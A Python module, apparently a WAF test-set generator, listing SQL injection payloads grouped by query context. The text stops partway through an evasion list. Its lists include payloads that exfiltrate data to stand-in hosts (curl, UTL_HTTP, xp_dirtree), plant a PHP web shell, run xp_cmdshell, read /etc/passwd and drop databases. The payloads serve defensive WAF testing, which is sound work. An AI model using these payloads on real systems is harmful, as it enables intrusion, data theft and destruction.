"""Blind set "seventeenth": SQL injection organised by the query context the injected value lands in, and
benign requests that send the same parameters real clients send (sort expressions, field lists, filter
strings, names with apostrophes, book titles, SQL words in prose, data engineers pasting queries and EXPLAIN
output into Slack).

Written for this repository by a helper working independently of the WAF rules: no rule file, ruleset,
ruleset regression test, public payload list or payload search tool was read or used. Every payload was
written from general knowledge of how each context is exploited (numeric and quoted values, LIKE patterns,
ORDER BY / GROUP BY, LIMIT, identifiers, IN lists, INSERT / UPDATE values, JSON operators, stacked, time-
and error-based, out-of-band, schema access, ORM query languages, and the spellings of evasive tools) and was
not changed after measuring. `sub` names the context or technique. Each payload goes into three input places
rotating (three_places / _place of family_gen_blind_php); the pre-percent-encoded tool spellings go into the
same places without being re-encoded. Same record schema as family_gen.py; deterministic.
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, three_places
from .records import print_records

SET = "seventeenth"

# Parameter names an API takes that reach a query.
NAMES = ["id", "sort", "order", "dir", "limit", "offset", "page", "column", "fields", "filter", "where", "search",
         "category", "user", "email", "token", "lang"]

# -- attacks, by query context -------------------------------------------------------------------------------

NUMERIC = [
    "1 AND 1=1",
    "1 AND 1=2",
    "1 OR 1=1",
    "-1 OR 2>1",
    "1 AND 3821=3821-- -",
    "1) AND (7=7",
    "1)) OR ((1=1",
    "-1 UNION SELECT NULL,NULL,NULL--",
    "0 UNION SELECT username,password FROM users",
    "1 OR 1=1 LIMIT 1",
    "1 AND SUBSTRING(@@version,1,1)=5",
    "1 AND (SELECT COUNT(*) FROM users)>0",
    "1 OR TRUE",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "1 OR EXISTS(SELECT * FROM users)",
    "1 AND NOT 4=5",
    "1 || 1=1",
    "99999 OR id IS NOT NULL",
    "1 AND @@version LIKE '8%'",
    "(1)OR(1)=(1)",
    "1 ORDER BY 10-- -",
    "1 UNION SELECT 1,2,3 FROM DUAL",
    "1 AND ELT(1=1,1)",
    "42 AND 1 IN (SELECT 1)",
]

STRING_SINGLE = [
    "' OR '1'='1",
    "' OR 1=1-- -",
    "admin'--",
    "admin' #",
    "' OR ''='",
    "' AND '1'='2",
    "foo' AND SUBSTRING(version(),1,1)='P",
    "'='",
    "'||(SELECT '')||'",
    "john' OR 'x'='x",
    "' OR username IS NOT NULL OR username='",
    "') OR ('a'='a",
    "')) OR (('1'='1",
    "1' ORDER BY 3-- +",
    "a' UNION SELECT password FROM users WHERE username='admin",
    "' GROUP BY userid HAVING 1=1--",
    "test' AND EXISTS(SELECT 1 FROM users WHERE name LIKE 'a%')--",
    "bob'/**/OR/**/1=1#",
    "' OR 1 -- -",
    "\\' OR 1=1-- ",
    "' AND ord(mid(user(),1,1))>96 AND 'x'='x",
    "jane.doe@example.com' AND 1=1 AND 'a'='a",
    "x' AND (SELECT 1 FROM dual)=1 AND 'q'='q",
    "'-0-'",
]

STRING_DOUBLE = [
    '" OR "1"="1',
    '" OR 1=1 -- ',
    'admin" --',
    '") OR ("x"="x',
    '" AND ""="',
    '1" ORDER BY 2#',
    '" UNION SELECT email,password_hash FROM accounts--',
    '"))) OR 1=1-- -',
    'x" AND "a"="b',
    '" AND substr(user(),1,1)="r',
    '" OR 1#',
    '" AND SLEEP(3) AND "1"="1',
]

LIKE = [
    "%' OR '%'='",
    "a%' AND 1=1 AND '%'='",
    "%' UNION SELECT name,pass FROM users WHERE name LIKE '%",
    "_' OR 1=1--",
    "%' AND (SELECT COUNT(*) FROM users)>0 AND '%'='",
    "%' ESCAPE '!' OR 1=1 -- ",
    "%' AND password LIKE 'a%",
    "' OR name LIKE '%admin%'--",
    "%') OR ('%'='",
    "%' UNION ALL SELECT NULL,@@version#",
    "%' AND ASCII(SUBSTRING(DATABASE(),1,1))=115 AND '1%'='1",
    "%' OR name GLOB '*'--",
]

ORDER_BY = [
    "1,(SELECT 1 FROM (SELECT SLEEP(5))a)",
    "(CASE WHEN (1=1) THEN name ELSE email END)",
    "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a' THEN created_at ELSE id END)",
    "IF(1=1,name,price)",
    "IF((SELECT COUNT(*) FROM information_schema.tables)>100,1,(SELECT 1 UNION SELECT 2))",
    "(SELECT 1 UNION SELECT 2)",
    "id,(SELECT CASE WHEN 1=1 THEN 1 ELSE 1/0 END)",
    "1 desc, SLEEP(3)",
    "(1=1) DESC",
    "(username='admin') desc",
    "10-- -",
    "name; DELETE FROM users-- ",
    "created_at,EXTRACTVALUE(1,CONCAT(0x7e,version()))",
    "name,(select pg_sleep(4))",
    "(SELECT CASE WHEN (ASCII(SUBSTR(user,1,1))>77) THEN 1 ELSE 1/(SELECT 0) END FROM dual)",
    "(select 1 from users where substring(password,1,1)='$')",
    "id*(CASE WHEN 1=1 THEN 1 ELSE -1 END)",
    "rand(ascii(substr(user(),1,1))>100)",
    "updated_at DESC NULLS LAST,(SELECT 1 FROM pg_sleep(3))",
    "title asc;WAITFOR DELAY '0:0:5'--",
    "(CASE WHEN (SELECT 1 FROM sys.databases WHERE name='master')=1 THEN id ELSE name END)",
    "(SELECT @@version)",
    "ISNULL(ASCII(SUBSTRING(CAST((SELECT TOP 1 name FROM sysobjects) AS varchar(8000)),1,1)),0)",
    "price+0*(SELECT COUNT(*) FROM users)",
    "(SELECT name FROM sqlite_master LIMIT 1)",
    "CAST((SELECT version()) AS int)",
    "name,UPDATEXML(1,CONCAT(0x2e,(SELECT user())),1)",
    "name ASC, 1/(CASE WHEN 2>1 THEN 1 ELSE 0 END)",
    "(SELECT 1 FROM DUAL WHERE BENCHMARK(5000000,SHA1(1)))",
    "lower(name) desc, (select 1 where 1=1)",
]

GROUP_HAVING = [
    "1 GROUP BY 1 HAVING 1=1--",
    "name HAVING 1=1",
    "category,password HAVING COUNT(*)>0-- ",
    "' GROUP BY users.id,users.username HAVING 1=1--",
    "1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2))",
    "id HAVING (SELECT 1 FROM (SELECT SLEEP(4))x)",
    "name GROUP BY name HAVING MIN(password) LIKE 'a%'",
    "status GROUP BY status HAVING SUM(CASE WHEN 1=1 THEN 1 ELSE 0 END)>0",
    "x GROUP BY 1,2,3 HAVING 1=1-- ",
    "1) GROUP BY 2 ORDER BY 1-- ",
]

LIMIT_OFFSET = [
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
    "10 PROCEDURE ANALYSE((SELECT EXTRACTVALUE(1,CONCAT(0x5c,user()))),1)",
    "1 PROCEDURE ANALYSE(1,1)#",
    "1 INTO OUTFILE '/var/www/html/s.php'",
    "0,1 INTO DUMPFILE '/tmp/x.so'",
    "10 INTO @a,@b",
    "1,1 UNION SELECT user,authentication_string FROM mysql.user",
    "1 OFFSET (SELECT CASE WHEN 1=1 THEN 0 ELSE 1 END)",
    "20 OFFSET (SELECT COUNT(*) FROM pg_user)",
    "(SELECT 10 FROM pg_sleep(5))",
    "100 UNION ALL SELECT table_name,NULL FROM information_schema.tables-- -",
    "1 OFFSET 0 ROWS; EXEC xp_cmdshell 'whoami'--",
]

IDENTIFIER = [
    "users` WHERE 1=1 UNION SELECT user,authentication_string FROM mysql.user-- ",
    "`name`,(SELECT `password` FROM `users` LIMIT 1)",
    "name` ; DROP TABLE `audit_log` -- ",
    "id`=1 OR `id",
    '"name" FROM users; SELECT * FROM "pg_shadow"--',
    '''name", (SELECT current_user) AS "x''',
    "[name] FROM [users]; EXEC('xp_cmdshell ''dir''')--",
    "name] UNION SELECT [password] FROM [dbo].[users]--",
    "`information_schema`.`tables`",
    "t.id AS x FROM t UNION SELECT 1 --",
    "email` FROM users WHERE 1=1#",
    '"sys"."dba_users"',
    '"pg_catalog"."pg_authid"',
    "[master]..[sysdatabases]",
    "id FROM users WHERE SLEEP(3)#",
    "*,(SELECT user())",
]

IN_LIST = [
    "1) OR (1=1",
    "1,2) UNION SELECT username,password FROM users-- ",
    "3,(SELECT 4 FROM (SELECT SLEEP(5))x)",
    "1,2,3) AND 1=0) UNION ALL SELECT NULL,version()-- ",
    "'a','b') OR 1=1-- ",
    "7) AND EXTRACTVALUE(1,CONCAT(0x7e,DATABASE()))-- ",
    "1) OR EXISTS(SELECT 1 FROM pg_sleep(4))-- ",
    "1,(SELECT CASE WHEN (1=1) THEN 2 ELSE 3 END)",
    "0) UNION SELECT name FROM sqlite_master WHERE type='table'--",
    "5) ; DELETE FROM orders WHERE (1=1",
    "'x') UNION SELECT @@version,NULL-- ",
    "1) AND (SELECT ASCII(SUBSTRING(user(),1,1)))>100 AND (1",
]

INSERT_VALUES = [
    "x', (SELECT password FROM users WHERE id=1))-- ",
    "a@b.c', 'admin')-- -",
    "test', 1, 1); INSERT INTO admins(user) VALUES('eve')-- ",
    "bob',(SELECT @@version),'x')#",
    "', (select string_agg(usename,',') from pg_user), '')--",
    "1, (SELECT group_concat(table_name) FROM information_schema.tables))-- ",
    "x', 'y'), ('attacker', 'pw', 1)-- ",
    "hello' || (SELECT version()) || '",
    "', SLEEP(5), '1",
    "a', 'b') ON DUPLICATE KEY UPDATE password='x'-- ",
    "zz', (SELECT TOP 1 name FROM sys.sql_logins))--",
    "x', EXTRACTVALUE(1,CONCAT(0x7e,(SELECT user()))))-- ",
    "'), ((SELECT pg_sleep(5)), '",
    "1, 1) RETURNING (SELECT passwd FROM pg_shadow LIMIT 1)-- ",
]

UPDATE_SET = [
    "x', role='admin' WHERE id=1-- ",
    "new@example.com', is_admin=1-- -",
    "a', password=(SELECT password FROM users WHERE username='admin') WHERE username='me'#",
    "1, balance=999999",
    "bob' , email=(SELECT @@version) WHERE '1'='1",
    "5 WHERE 1=1; UPDATE users SET role='root'-- ",
    "x', bio=(SELECT group_concat(username,0x3a,password) FROM users)-- ",
    "x', name=(SELECT pg_sleep(4))::text--",
    "x', updated_at=NOW() WHERE 1=1--",
    "Alice', credit=credit+1000, email='",
    "0 WHERE id IN (SELECT id FROM users)--",
    'x" , admin = 1 #',
    "', status=(CASE WHEN (SELECT SUBSTR(banner,1,1) FROM v$version WHERE ROWNUM=1)='O' THEN 'a' ELSE 'b' END)--",
    '1, "role"=\'owner\' WHERE "id"=2--',
]

JSON_OPS = [
    "1' AND data->>'role'='admin'--",
    "x' OR payload->'user'->>'is_admin'='true'--",
    "' OR metadata @> '{\"admin\":true}'--",
    "1 AND JSON_EXTRACT(profile,'$.role')='admin'",
    "' UNION SELECT JSON_EXTRACT(settings,'$.password'),2 FROM users-- ",
    "1 AND (SELECT JSON_ARRAYAGG(username) FROM users) IS NOT NULL",
    "' OR attrs ? 'admin'--",
    "' OR tags ?| array['admin','root']--",
    "' OR doc #>> '{user,role}' = 'admin'--",
    "1 OR (SELECT json_agg(t) FROM pg_user t)::text LIKE '%post%'",
    "'||(SELECT row_to_json(u)::text FROM users u LIMIT 1)||'",
    "x' AND col->'$.role' = 'admin' -- ",
    "' OR JSON_CONTAINS(roles,'\"admin\"')-- ",
    "' OR JSON_UNQUOTE(JSON_EXTRACT(meta,'$.pw')) LIKE 'a%'#",
    "' OR data::jsonb @> '{\"role\":\"admin\"}'::jsonb--",
    "' UNION SELECT json_object('u',user,'p',authentication_string) FROM mysql.user#",
    "1 AND JSON_VALUE((SELECT TOP 1 name FROM sys.databases FOR JSON AUTO),'$[0].name')='master'",
    "' OR json_extract(data,'$.admin')=1--",
]

STACKED = [
    "1; DROP TABLE users--",
    "'; DROP TABLE users; --",
    "1; SELECT pg_sleep(5)--",
    "'; EXEC xp_cmdshell 'ping -n 5 127.0.0.1'--",
    "1; EXEC master..xp_cmdshell 'net user'--",
    "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE;--",
    "1; INSERT INTO users(username,password,role) VALUES('eve','x','admin')--",
    "x'; UPDATE users SET password='pwned' WHERE username='admin';--",
    "'; SHUTDOWN WITH NOWAIT;--",
    "1;SELECT SLEEP(5)#",
    "'; CREATE USER eve IDENTIFIED BY 'x'; GRANT DBA TO eve;--",
    "1; ATTACH DATABASE '/var/www/lol.php' AS lol; CREATE TABLE lol.pwn (d text);--",
    "'; ALTER USER postgres WITH PASSWORD 'x';--",
    "1; TRUNCATE TABLE audit_log--",
    "'); DELETE FROM sessions;--",
    "1; SET GLOBAL general_log='ON'; SET GLOBAL general_log_file='/var/www/html/x.php';--",
    "'; BEGIN DBMS_LOCK.SLEEP(5); END;--",
    "1; CREATE OR REPLACE FUNCTION sys_exec(text) RETURNS int AS '/tmp/lib.so','sys_exec' LANGUAGE C STRICT;--",
    "'; LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t;--",
    "'; GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%';--",
    "1;EXEC('SEL'+'ECT 1')--",
    "'; PREPARE s FROM 0x73656c65637420736c6565702835293b; EXECUTE s;#",
    "x'; DO SLEEP(4);#",
    "'; COMMIT; DROP DATABASE production;--",
]

TIME_BLIND = [
    "1 AND SLEEP(5)",
    "1' AND SLEEP(5)-- -",
    "' OR SLEEP(5)#",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)",
    "(SELECT * FROM (SELECT(SLEEP(5)))a)",
    "1' AND IF(1=1,SLEEP(5),0)-- ",
    "1 AND IF(ASCII(SUBSTRING(user(),1,1))>100,SLEEP(3),0)",
    "' XOR(IF(NOW()=SYSDATE(),SLEEP(5),0))XOR '",
    "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
    "'||pg_sleep(5)||'",
    "1 AND CASE WHEN (SELECT current_setting('is_superuser'))='on' THEN pg_sleep(5) ELSE pg_sleep(0) END IS NULL",
    "1' WAITFOR DELAY '0:0:5'--",
    "1) WAITFOR DELAY '00:00:05'--",
    "'; IF (1=1) WAITFOR DELAY '0:0:5'--",
    "1; IF (ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>80) WAITFOR DELAY '0:0:4'--",
    "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
    "' AND 7=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5)--",
    "' || DBMS_PIPE.RECEIVE_MESSAGE('x',10) || '",
    "1 AND 1=(CASE WHEN (1=1) THEN DBMS_PIPE.RECEIVE_MESSAGE('RDS',5) ELSE 1 END)",
    "SLEEP(5)",
    "pg_sleep(10)",
    "WAITFOR DELAY '0:0:10'",
    "sleep(3)#",
    "1 RLIKE SLEEP(5)",
    '" or sleep(5) or "',
    "'; SELECT pg_sleep_for('5 seconds')--",
]

HEAVY_QUERY = [
    "1 AND BENCHMARK(5000000,MD5(1))",
    "' AND BENCHMARK(10000000,SHA1('a'))#",
    "1 AND IF(1=1,BENCHMARK(3000000,ENCODE('x','y')),0)",
    "1 AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, "
    "information_schema.columns C)>0",
    "1 AND (SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3, all_users t4)>0",
    "' AND (SELECT COUNT(*) FROM sysusers AS s1, sysusers AS s2, sysusers AS s3)>0--",
    "1 AND 1=(SELECT COUNT(*) FROM generate_series(1,50000000))",
    "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))-- ",
    "1 AND 5=LIKE('ABC',UPPER(HEX(RANDOMBLOB(500000000))))",
    "1 AND 1=(SELECT COUNT(*) FROM dual CONNECT BY LEVEL<=10000000)",
]

BOOLEAN_BLIND = [
    "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    "1' AND SUBSTR((SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 0,1),1,1)='u",
    "1 AND LENGTH(database())=6",
    "' AND (SELECT SUBSTRING(username,1,1) FROM users WHERE id=1)='a'--",
    "1 AND MID(VERSION(),1,1)='8'",
    "1 AND ORD(MID((SELECT IFNULL(CAST(password AS NCHAR),0x20) FROM app.users ORDER BY id LIMIT 0,1),3,1))>96",
    "1 AND (SELECT ASCII(SUBSTR(usename,1,1)) FROM pg_user LIMIT 1)>100",
    "1 AND (SELECT UNICODE(SUBSTRING(name,1,1)) FROM master..sysdatabases WHERE dbid=5)>77",
    "1 AND (SELECT SUBSTR(banner,1,6) FROM v$version WHERE ROWNUM=1)='Oracle'",
    "1 AND (SELECT COUNT(*) FROM users WHERE username='admin' AND password LIKE 'a%')=1",
    "' AND LEFT(user(),4)='root'#",
    "1 AND (SELECT substr(sql,1,1) FROM sqlite_master LIMIT 1)='C'",
    "' AND hex(substr((SELECT name FROM sqlite_master WHERE type='table'),1,1))>hex('a')--",
    "1 AND (ASCII(LOWER(SUBSTRING((SELECT TOP 1 name FROM sys.tables),1,1))))>109",
    "1 AND 1=(SELECT CASE WHEN (SELECT current_user)='postgres' THEN 1 ELSE 0 END)",
    "1 AND STRCMP(SUBSTRING(user(),1,1),'r')=0",
    "' AND (SELECT 'x' FROM users WHERE username='administrator' AND SUBSTRING(password,1,1)>'m')='x",
    "1 AND REGEXP_LIKE((SELECT user FROM dual),'^SYS')",
    "1 AND INSTR(@@version,'MariaDB')>0",
    "1 AND (SELECT current_setting('server_version_num'))::int>100000",
]

UNION = [
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL,NULL--",
    "-1 UNION ALL SELECT 1,2,group_concat(username,0x3a,password),4 FROM users-- -",
    "0' UNION SELECT table_schema,table_name FROM information_schema.tables-- ",
    "' UNION ALL SELECT CONCAT(0x7171707671,IFNULL(CAST(user() AS NCHAR),0x20),0x716a6b6b71),NULL#",
    "-7 UNION SELECT usename,passwd FROM pg_shadow--",
    "' UNION SELECT NULL,banner FROM v$version-- ",
    "x' UNION SELECT sql,name FROM sqlite_master-- ",
    "-1 UNION SELECT 1,load_file('/etc/passwd'),3-- ",
    "' UNION SELECT 1,@@datadir,@@hostname#",
    "1) UNION SELECT ALL 1,2,3-- ",
    "' UNION DISTINCT SELECT user(),database()#",
    "-1' UNION SELECT string_agg(datname,','),NULL FROM pg_database--",
    "-5 UNION SELECT TOP 1 name,NULL FROM master..sysdatabases--",
    "-1 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b JOIN (SELECT group_concat(email) FROM users)c--",
    "' union select 1,listagg(username,',') within group (order by username) from all_users--",
    "' UNION SELECT null,concat_ws(0x3a,id,email,password) FROM customers LIMIT 5-- ",
    "9999 UNION SELECT 1,2,3,4,5,6,7,8,9,10-- ",
    "') UNION ALL SELECT NULL,CURRENT_USER,NULL--",
    "0 UNION SELECT @@version,2",
]

ERROR_BASED = [
    "1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))",
    "' AND extractvalue(rand(),concat(0x3a,(SELECT user())))-- ",
    "1 AND UPDATEXML(1,CONCAT(0x7e,(SELECT database())),1)",
    "' AND updatexml(null,concat(0x0a,(select table_name from information_schema.tables limit 1)),null)#",
    "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables "
    "GROUP BY x)a)",
    "1 AND EXP(~(SELECT * FROM (SELECT user())a))",
    "' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)-- ",
    "1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,database())) USING utf8)))",
    "1 AND GEOMETRYCOLLECTION((SELECT * FROM (SELECT * FROM (SELECT user())a)b))",
    "1 AND POLYGON((SELECT * FROM (SELECT * FROM (SELECT @@version)f)x))",
    "1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),CHAR(33),0x3a,FLOOR(RAND(0)*2)) x FROM "
    "(SELECT 1 UNION SELECT 2)a GROUP BY x LIMIT 1)",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "' AND 1=CAST((SELECT usename FROM pg_user LIMIT 1) AS integer)-- ",
    "1 AND 1=(SELECT current_database())::int",
    "' AND 1=CAST(chr(126)||(SELECT version())||chr(126) AS NUMERIC)--",
    "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))",
    "' AND 1=CONVERT(INT,@@version)-- ",
    "1 AND 1=CONVERT(int,(SELECT name FROM master..sysdatabases FOR XML PATH('')))",
    "1 AND 1=CAST(DB_NAME() AS int)",
    "1 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))",
    "1 AND 1=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE ROWNUM=1))",
    "' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)-- ",
    "1 AND 1=DBMS_UTILITY.SQLID_TO_SQLHASH((SELECT banner FROM v$version WHERE ROWNUM=1))",
    "1 AND 1=ORDSYS.ORD_DICOM.GETMAPPINGXPATH((SELECT user FROM dual),1,1)",
    "1 AND 1=(SELECT 1 FROM (SELECT NAME_CONST(version(),1),NAME_CONST(version(),1))x)",
    "' OR 1 GROUP BY CONCAT_WS(0x3a,VERSION(),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
    "1 AND ST_LatFromGeoHash((SELECT version()))",
    "1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7e,user(),0x7e))s),8446744073709551610,"
    "8446744073709551610)))",
]

OUT_OF_BAND = [
    r"1 AND LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.x7k2.oast.example\\a'))",
    r"' UNION SELECT LOAD_FILE('\\\\attacker.example\\share\\x')#",
    r"1 INTO OUTFILE '\\\\10.9.8.7\\share\\out.txt'",
    r"'; EXEC master..xp_dirtree '\\attacker.example\foo';--",
    r"1; EXEC master.dbo.xp_fileexist '\\oast.example\x'--",
    r"'; DECLARE @h varchar(1024); SELECT @h=(SELECT TOP 1 name FROM sys.sql_logins); "
    r"EXEC('master..xp_subdirs ''\\'+@h+'.oast.example\a''');--",
    "1 AND 1=UTL_HTTP.REQUEST('http://oast.example/'||(SELECT user FROM dual))",
    "' || UTL_HTTP.REQUEST('http://203.0.113.9:8080/'||(SELECT password FROM dba_users WHERE ROWNUM=1)) || '",
    "1 AND (SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.oast.example') FROM dual) IS NOT NULL",
    "' AND (SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM "
    "\"http://oast.example/'||user||'\"> %p;]>'),'/l') FROM dual) IS NOT NULL-- ",
    "1; COPY (SELECT '') TO PROGRAM 'nslookup $(whoami).oast.example'--",
    "'; COPY users TO PROGRAM 'curl -d @- http://203.0.113.9/x';--",
    "1; CREATE EXTENSION dblink; SELECT dblink_connect('host=oast.example user=a password=b dbname=c')--",
    "' AND (SELECT dblink_send_query('host='||(SELECT passwd FROM pg_shadow LIMIT 1)||'.oast.example dbname=x',"
    "'select 1')) IS NOT NULL--",
    "1; SELECT * FROM OPENDATASOURCE('SQLNCLI','Data Source=oast.example;User ID=sa;Password=x')"
    ".master.dbo.sysdatabases--",
    "' AND HTTPURITYPE('http://oast.example/'||(SELECT user FROM dual)).GETCLOB() IS NOT NULL--",
    "1 AND DBMS_LDAP.INIT((SELECT password FROM sys.user$ WHERE ROWNUM=1)||'.oast.example',80) IS NOT NULL",
    "1 UNION SELECT LOAD_FILE(CONCAT(0x5c5c5c5c,version(),0x2e6f6173742e6578616d706c655c5c61))",
]

SCHEMA_FILE = [
    "1 AND (SELECT COUNT(*) FROM information_schema.columns WHERE column_name LIKE '%pass%')>0",
    "(SELECT GROUP_CONCAT(schema_name) FROM information_schema.schemata)",
    "' UNION SELECT name,NULL FROM sys.objects WHERE type='U'-- ",
    "' UNION SELECT name,NULL FROM sysobjects WHERE xtype='U'--",
    "1 UNION SELECT name,type FROM sys.columns WHERE object_id=OBJECT_ID('users')--",
    "x' UNION SELECT tbl_name,sql FROM sqlite_master WHERE type='table'--",
    "' AND (SELECT COUNT(*) FROM sqlite_schema)>0-- ",
    "' UNION SELECT name,NULL FROM pragma_table_info('users')--",
    "1 UNION SELECT relname,NULL FROM pg_catalog.pg_class WHERE relkind='r'--",
    "1 AND (SELECT COUNT(*) FROM pg_catalog.pg_tables WHERE schemaname='public')>3",
    "' UNION SELECT table_name,owner FROM all_tables--",
    "' UNION SELECT column_name,data_type FROM all_tab_columns WHERE table_name='USERS'--",
    "' UNION SELECT owner,table_name FROM dba_tables WHERE ROWNUM<50--",
    "1 UNION SELECT name,password FROM sys.user$--",
    "' UNION SELECT LOAD_FILE('/etc/passwd'),NULL#",
    "1 UNION SELECT pg_read_file('/etc/passwd',0,2000),NULL--",
    "'; SELECT pg_ls_dir('/var/lib/postgresql');--",
    "1 UNION SELECT lo_import('/etc/shadow'),NULL--",
    "' UNION SELECT '<?php system($_GET[0]);?>',NULL INTO OUTFILE '/var/www/html/c.php'#",
    r"'; BULK INSERT tmp FROM 'c:\windows\win.ini';--",
    r"1 UNION SELECT * FROM OPENROWSET(BULK 'C:\inetpub\wwwroot\web.config', SINGLE_CLOB) AS x--",
    "' UNION SELECT grantee,privilege_type FROM information_schema.user_privileges#",
    "1 AND (SELECT super_priv FROM mysql.user WHERE user='root' LIMIT 1)='Y'",
    "' UNION SELECT @@secure_file_priv,@@plugin_dir#",
    "' UNION SELECT srvname,srvproduct FROM master..sysservers--",
    "1 AND (SELECT IS_SRVROLEMEMBER('sysadmin'))=1",
]

ORM_HQL = [
    "' or 1=1 or ''='",
    "admin' AND (SELECT count(u) FROM User u WHERE u.role='ADMIN')>0 AND ''='",
    "x' and (select count(o) from Order o where o.total>1000)>0 and '1'='1",
    "' AND SUBSTRING((SELECT u.password FROM User u WHERE u.id=1),1,1)='a' AND ''='",
    "' and FUNCTION('pg_sleep',5) is null and ''='",
    "' OR FUNCTION('version') LIKE 'P%' OR ''='",
    "x' AND SQL('1=1') AND ''='",
    "'||(select u.email from User u where u.id=1)||'",
    "u.name asc, (select max(a.password) from Account a)",
    "id desc, case when (select substring(u.password,1,1) from User u where u.id=1)='a' then 1 else 0 end",
    "' or exists(from User u where u.isAdmin=true) or 'x'='y",
    "' and (select max(u.passwordHash) from Account u) like 'a%' and '1'='1",
    "dummy\\'' or 1=1 -- ",
    "' OR TYPE(e) = Admin OR 'a'='b",
    "' and CONCAT(u.login,':',u.password) like '%' and ''='",
    "author__password__startswith=pbkdf2",
]

EVASION_COMMENT = [
    "1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3",
    "'/**/OR/**/1/**/=/**/1#",
    "1/*!12345UNION SELECT*/user(),2",
    "UN/**/ION SEL/**/ECT 1,2,3--",
    "1'/*foo*/AND/*bar*/SLEEP(5)/*baz*/-- ",
    "-1 /*!UnIoN*/ /*!SeLeCt*/ 1,version()",
    "1 AND/*!*/1=1",
    "' /*!00000OR*/ 1=1-- ",
    "1 union/*&id=*/select/*&id=*/password from users",
    "1--\nUNION SELECT 1,2",
    "-1 UNION#foo\nSELECT 1,2,3",
    "admin'/*",
    "/*!50000select*/ user()",
    "1 /*!44444AND*/ (SELECT 1)=1",
    "1)/**/OR/**/(SELECT/**/1)=1/**/--",
]

EVASION_CASE_SPACE = [
    "1 UnIoN SeLeCt 1,2,3",
    "1 uNiOn aLl sElEcT nUlL,UsEr()",
    "' oR 1=1--",
    "1\tUNION\tSELECT\t1,2",
    "1\nOR\n1=1",
    "1 AND(SELECT(1)FROM(SELECT(SLEEP(5)))a)",
    "'OR(1)=(1)#",
    "1)OR(1=1)AND(1",
    "(select(group_concat(table_name))from(information_schema.tables)where(table_schema=database()))",
    "1 UNIunionON SELselectECT 1,2",
    "' oorr 1=1-- ",
    "1 AnD 1 LiKe 1",
    "'OR'a'='a",
    "1'or'1'='1",
    "admin'oR'1",
    "-1'uNiOn(sElEcT(1),(2))#",
]

EVASION_ENCODING = [
    "' UNION SELECT CHAR(117,115,101,114,115),2--",
    "1 AND 1=(SELECT COUNT(*) FROM users WHERE username=CHAR(97,100,109,105,110))",
    "' OR username=0x61646d696e#",
    "1 UNION SELECT 1,table_name FROM information_schema.tables WHERE table_schema=0x6170705f6462",
    "' OR name=CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110)--",
    "' AND 'a'||'b'='ab'--",
    "' AND 'a'+'b'='ab'--",
    "' AND CONCAT('a','b')='ab'#",
    "' AND 'a' 'b'='ab'#",
    "1 AND X'41'='A'",
    "' OR CHAR(49)=CHAR(49)--",
    "1; EXEC(CHAR(83)+CHAR(69)+CHAR(76)+CHAR(69)+CHAR(67)+CHAR(84)+CHAR(32)+CHAR(49))--",
    "1;DECLARE @s VARCHAR(200);SET @s=0x73656c65637420404076657273696f6e;EXEC(@s)--",
    "' AND UNHEX('726f6f74')=LEFT(user(),4)#",
    "' UNION SELECT NCHAR(65)+NCHAR(66),2--",
    "1 AND b'1'=1",
    "1 AND 0b1=1",
    "'||UTL_RAW.CAST_TO_VARCHAR2(HEXTORAW('41444d494e'))||'",
    "1 AND convert_from(decode('c2VsZWN0','base64'),'UTF8')='select'",
    "' AND FROM_BASE64('cm9vdA==')=SUBSTRING_INDEX(user(),'@',1)#",
]

EVASION_OPERATOR = [
    "1 AND 2 BETWEEN 1 AND 3",
    "' OR 'b' BETWEEN 'a' AND 'c'--",
    "1 AND ASCII(SUBSTRING(user(),1,1)) BETWEEN 114 AND 114",
    "' OR username LIKE 'adm%'--",
    "1 AND user() LIKE 'root%'",
    "1 AND 1 LIKE 1",
    "' OR 1 REGEXP 1#",
    "' OR 'a' RLIKE 'a'#",
    "1 AND 1<>2",
    "0.1e1UNION SELECT 1,2,3",
